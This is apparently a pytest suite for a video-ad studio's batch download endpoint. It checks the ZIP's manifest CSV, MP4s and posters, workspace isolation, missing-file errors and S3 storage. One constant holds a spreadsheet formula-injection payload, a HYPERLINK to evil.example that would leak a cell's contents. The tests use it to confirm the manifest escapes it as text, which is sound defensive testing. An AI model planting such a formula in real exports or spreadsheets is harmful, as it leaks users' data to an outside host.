"""A whole batch to take away: GET /batches/{id}/download is one ZIP with a manifest.csv (one
row per video: creative code, suggested ad name, utm_content, format, duration, template,
product), the MP4s and their posters — made by a real worker, read back with ffprobe; a
hostile product title stays text in the manifest; a video whose file is gone is a 409 naming
it, never a ZIP with a hole; the same from S3 storage."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import time
import zipfile
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from studio.config import get_settings
from studio.media_tools import probe_with_ffprobe

PHOTO = sorted((Path(__file__).resolve().parents[2] / "media" / "samples" / "photos")
               .glob("*.jpg"))[0]
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
RATIOS = {"9:16": 9 / 16, "1:1": 1.0, "16:9": 16 / 9, "4:5": 4 / 5}


def _photo(settings: Any) -> str:
    target = Path(settings.media_root) / "photos" / PHOTO.name
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(PHOTO, target)
    return f"photos/{PHOTO.name}"


def _manifest(archive: zipfile.ZipFile) -> tuple[str, list[dict[str, str]]]:
    [name] = [n for n in archive.namelist() if n.endswith("/manifest.csv")]
    text = archive.read(name).decode("utf-8-sig")
    return name.rpartition("/")[0], list(csv.DictReader(io.StringIO(text)))


def _wait_for(client: Any, tenant: Any, batch_id: int, timeout: float = 300) -> dict[str, Any]:
    deadline = time.monotonic() + timeout
    while True:
        batch = client.get(f"/api/v1/batches/{batch_id}", headers=tenant.headers).json()
        if batch["status"] in ("completed", "completed_with_failures", "failed"):
            return batch
        assert time.monotonic() < deadline, batch
        time.sleep(0.5)


def test_a_finished_batch_downloads_as_one_zip_with_manifest_videos_and_posters(
    live_client: Any, tenant: Any, other_tenant: Any, settings: Any, tmp_path: Path
) -> None:
    client, h = live_client, tenant.headers
    product = client.post("/api/v1/products", headers=h, json={
        "title": HOSTILE, "price": "19.99", "compare_at_price": "29.99",
        "images": [_photo(settings)]}).json()
    order = {"name": "Autumn drop", "items": [
        {"product": product["id"], "template": "showcase", "format": f,
         "options": {"preview": True}} for f in ("9:16", "1:1")]}
    batch = client.post("/api/v1/batches", headers=h, json=order).json()
    done = _wait_for(client, tenant, batch["id"])
    assert done["status"] == "completed", done["failures"]
    videos = client.get("/api/v1/videos", headers=h, params={"batch_id": batch["id"]}).json()

    answer = client.get(f"/api/v1/batches/{batch['id']}/download", headers=h)
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/zip"
    assert int(answer.headers["content-length"]) == len(answer.content)
    assert "Autumn" in answer.headers["content-disposition"]
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    assert archive.testzip() is None
    root, rows = _manifest(archive)
    print(f"\nZIP {len(answer.content)} bytes: {sorted(archive.namelist())}")

    # one manifest row per video of the batch, with what the seller puts on the ad
    by_code = {v["creative_code"]: v for v in videos["data"]}
    assert sorted(r["creative_code"] for r in rows) == sorted(by_code)
    for row in rows:
        video = by_code[row["creative_code"]]
        assert row["utm_content"] == video["suggested_utm_content"] == video["creative_code"]
        # the title starts the ad name: both cells stay text in a spreadsheet
        assert row["product"] == "'" + HOSTILE
        assert row["suggested_ad_name"] == "'" + video["suggested_ad_name"]
        assert row["suggested_ad_name"].endswith(video["creative_code"])
        assert (row["format"], row["template"]) == (video["format"], "showcase")
        assert float(row["duration_seconds"]) == pytest.approx(video["duration"], abs=0.01)
        # the MP4 is a video of its format (ffprobe reads it); the poster is a JPEG
        mp4 = tmp_path / f"{row['creative_code']}.mp4"
        mp4.write_bytes(archive.read(f"{root}/{row['video_file']}"))
        info = probe_with_ffprobe(mp4)
        assert info.width / info.height == pytest.approx(RATIOS[row["format"]], rel=0.02)
        assert info.duration == pytest.approx(video["duration"], abs=0.2)
        poster = Image.open(io.BytesIO(archive.read(f"{root}/{row['poster_file']}")))
        assert poster.format == "JPEG"
        print(f"  {row['creative_code']} {row['format']} {info.width}x{info.height} "
              f"{info.duration:.1f}s poster {poster.size}: {row['suggested_ad_name']}")
    assert "=HYPERLINK" not in archive.read(f"{root}/manifest.csv").decode("utf-8-sig").replace(
        "'=HYPERLINK", "")

    # another workspace does not see the batch
    assert client.get(f"/api/v1/batches/{batch['id']}/download",
                      headers=other_tenant.headers).status_code == 404

    # a video whose file is gone: no ZIP with a hole, an error naming the video
    gone = videos["data"][0]
    stored = Path(settings.media_root).rglob(f"{gone['creative_code']}*.mp4")
    for path in stored:
        path.unlink()
    broken = client.get(f"/api/v1/batches/{batch['id']}/download", headers=h)
    assert broken.status_code == 409, broken.text
    assert broken.headers["content-type"].startswith("application/problem+json")
    assert broken.json()["code"] == "batch.file_missing"
    assert broken.json()["params"]["video"] == gone["creative_code"]


def test_a_batch_with_nothing_finished_has_nothing_to_download(client: Any, tenant: Any,
                                                                settings: Any) -> None:
    h = tenant.headers
    product = client.post("/api/v1/products", headers=h, json={
        "title": "Mug", "price": "9", "images": [_photo(settings)]}).json()
    batch = client.post("/api/v1/batches", headers=h, json={"items": [
        {"product": product["id"], "template": "showcase"}]}).json()
    answer = client.get(f"/api/v1/batches/{batch['id']}/download", headers=h)
    assert answer.status_code == 409 and answer.json()["code"] == "batch.nothing_to_download"
    assert client.get("/api/v1/batches/999999/download", headers=h).status_code == 404


@pytest.fixture
def on_s3(settings: Any, monkeypatch: pytest.MonkeyPatch, s3_endpoint: str,
          s3_bucket: str) -> Any:
    monkeypatch.setenv("STUDIO_STORAGE_URL", f"s3://{s3_bucket}/shop")
    monkeypatch.setenv("STUDIO_S3_ENDPOINT_URL", s3_endpoint)
    get_settings.cache_clear()
    yield get_settings()
    get_settings.cache_clear()


def test_videos_stored_on_s3_are_fetched_into_the_zip(client: Any, tenant: Any, settings: Any,
                                                       on_s3: Any, tmp_path: Path) -> None:
    """What a worker leaves on S3 (an MP4 and a poster per video) ends up in the ZIP whole."""
    from studio.db import Video, session_scope
    from studio.storage import open_storage

    h = tenant.headers
    product = client.post("/api/v1/products", headers=h, json={
        "title": "Stoneware mug", "price": "18", "images": [_photo(settings)]}).json()
    batch = client.post("/api/v1/batches", headers=h, json={"items": [
        {"product": product["id"], "template": "showcase", "format": f}
        for f in ("16:9", "4:5")]}).json()
    storage = open_storage()
    sizes = {"16:9": "96x54", "4:5": "64x80"}
    with session_scope(settings.resolved_database_url()) as session:
        for video_id in batch["video_ids"]:
            video = session.get(Video, video_id)
            assert video is not None
            mp4, jpg = tmp_path / f"{video.creative_code}.mp4", tmp_path / "p.jpg"
            subprocess.run(["ffmpeg", "-v", "error", "-y", "-f", "lavfi", "-i",
                            f"testsrc=s={sizes[video.format]}:d=1:r=10", "-pix_fmt", "yuv420p",
                            str(mp4)], check=True, timeout=60)
            Image.new("RGB", (32, 32), "orange").save(jpg)
            stem = f"videos/{tenant.workspace_id}/{video.creative_code}"
            storage.put_file(f"{stem}.mp4", mp4)
            storage.put_file(f"{stem}.jpg", jpg)
            video.status, video.progress, video.duration = "succeeded", 1.0, 1.0
            video.storage_key, video.poster_key = f"{stem}.mp4", f"{stem}.jpg"
    assert not list(Path(settings.media_root).rglob("*.mp4"))  # nothing local: all on S3
    answer = client.get(f"/api/v1/batches/{batch['id']}/download", headers=h)
    assert answer.status_code == 200, answer.text
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    root, rows = _manifest(archive)
    assert sorted(r["format"] for r in rows) == ["16:9", "4:5"]
    for row in rows:
        mp4 = tmp_path / "out.mp4"
        mp4.write_bytes(archive.read(f"{root}/{row['video_file']}"))
        info = probe_with_ffprobe(mp4)
        assert f"{info.width}x{info.height}" == sizes[row["format"]]
        assert archive.read(f"{root}/{row['poster_file']}")[:3] == b"\xff\xd8\xff"
